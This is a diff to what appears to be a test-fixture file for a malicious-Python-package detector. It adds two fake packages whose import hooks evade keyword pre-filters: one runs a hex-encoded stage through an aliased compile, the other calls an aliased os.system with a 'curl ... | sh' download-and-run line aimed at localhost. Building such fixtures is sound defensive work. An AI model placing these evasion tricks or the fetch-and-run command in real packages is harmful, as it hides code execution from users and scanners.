@@ -253,6 +253,27 @@ def js_ui_names_credentials_twin(root: FakeRoot) -> None:
     root.add_dist(SITE, "proxyui", "1.0", files)
 
 
+def init_aliased_compile(root: FakeRoot) -> None:
+    """The code object is made by ``compile`` under another name and run as a function: no
+    ``exec``, ``eval`` or ``compile(`` in the text (the pre-filter once let this go unparsed)."""
+    stage = canary_code(root).encode().hex()
+    init = (
+        "import types\n_c = compile\n"
+        f"_f = types.FunctionType(_c(bytes.fromhex('{stage}').decode(), '<s>', 'single'), {{}})\n"
+        "_f()\n"
+    )
+    root.add_dist(SITE, "tinyfmt", "1.1.0", {"tinyfmt/__init__.py": init.encode()})
+
+
+def init_aliased_system(root: FakeRoot) -> None:
+    """``os.system`` taken under another name and called: no ``system(`` in the text."""
+    init = (
+        "import os\n_run = os.system\n"
+        "_run('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
+    )
+    root.add_dist(SITE, "quietcfg", "0.4", {"quietcfg/__init__.py": init.encode()})
+
+
 Case = Tuple[str, Callable[[FakeRoot], None], str, str]
 MECHANICS: List[Case] = [
     ("init-download-run", init_download_run, IMPORT, "helpful_client/__init__.py"),
@@ -260,6 +281,8 @@ MECHANICS: List[Case] = [
     ("submodule-fetch-spawn", submodule_fetch_spawn, IMPORT, "metricsd/_telemetry.py"),
     ("init-writes-pth", init_writes_pth, IMPORT, "syncutil/__init__.py"),
     ("init-curl-pipe-shell", init_curl_pipe_shell, IMPORT, "fastlogz/__init__.py"),
+    ("init-aliased-compile", init_aliased_compile, IMPORT, "tinyfmt/__init__.py"),
+    ("init-aliased-system", init_aliased_system, IMPORT, "quietcfg/__init__.py"),
     ("pth-module-lambda-thread", pth_module_lambda_thread, IMPORT, "_zz_tel.py"),
     ("pth-bundled-module", pth_bundled_module, IMPORT, "_helper_boot.py"),
     ("pth-calls-function", pth_calls_module_function, IMPORT, "acc_hook/__init__.py"),
